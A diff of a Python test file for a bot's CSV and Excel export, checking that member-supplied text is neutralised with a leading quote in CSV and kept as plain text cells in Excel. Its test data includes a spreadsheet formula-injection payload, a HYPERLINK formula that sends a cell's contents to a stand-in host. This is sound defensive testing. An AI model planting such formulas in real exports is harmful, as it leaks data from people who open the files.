@@ -1,9 +1,11 @@
 import csv
 import io
 
+import openpyxl
 import pytest
 
-from bot.documents.export_files import export_files, spreadsheet_safe
+from bot.documents.export_files import spreadsheet_safe
+from tests.export_rows import document
 
 DANGEROUS = [
     '=HYPERLINK("https://example.invalid/?leak="&A1,"klik")',
@@ -26,11 +28,27 @@ def test_other_cells_are_left_alone(value: object) -> None:
 
 
 @pytest.mark.parametrize("language", ["nl", "en"])
-def test_every_csv_export_neutralises_member_text(language: str) -> None:
+async def test_every_csv_export_neutralises_member_text(language: str) -> None:
     rows = [{"id": n, "organisation": text, "text": text, "delta": -n} for n, text in enumerate(DANGEROUS, 1)]
-    [(_, data)] = export_files(rows, "csv", language, "ideas", "Ideeën").files
+    data = await document(rows, "csv", language)
     delimiter = ";" if language == "nl" else ","
     read = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
     assert [row["organisation"] for row in read] == ["'" + text for text in DANGEROUS]
     assert [row["text"] for row in read] == ["'" + text for text in DANGEROUS]
     assert [row["delta"] for row in read] == [str(-n) for n in range(1, len(DANGEROUS) + 1)], "numbers stay numbers"
+
+
+async def test_an_excel_export_keeps_member_text_as_text_never_a_formula() -> None:
+    rows = [
+        {"id": n, "text": text, "member_id": "123456789012345678", "delta": -n} for n, text in enumerate(DANGEROUS, 1)
+    ]
+    [sheet] = openpyxl.load_workbook(io.BytesIO(await document(rows, "xlsx"))).worksheets
+    texts = [sheet.cell(row=n + 1, column=2) for n in range(1, len(DANGEROUS) + 1)]
+    # OOXML writes a carriage return as the escape _x000D_, which Excel decodes and openpyxl leaves as it is.
+    shown = [str(cell.value).replace("_x000D_", "\r") for cell in texts]
+    assert shown == DANGEROUS, "shown as typed, no quote added"
+    assert {cell.data_type for cell in texts} == {"s"}, "text cells, not formulas ('f')"
+    assert sheet.cell(row=2, column=3).value == "123456789012345678", "ids keep every digit"
+    assert [sheet.cell(row=n + 1, column=4).value for n in range(1, len(DANGEROUS) + 1)] == [
+        -n for n in range(1, len(DANGEROUS) + 1)
+    ], "numbers stay numbers"
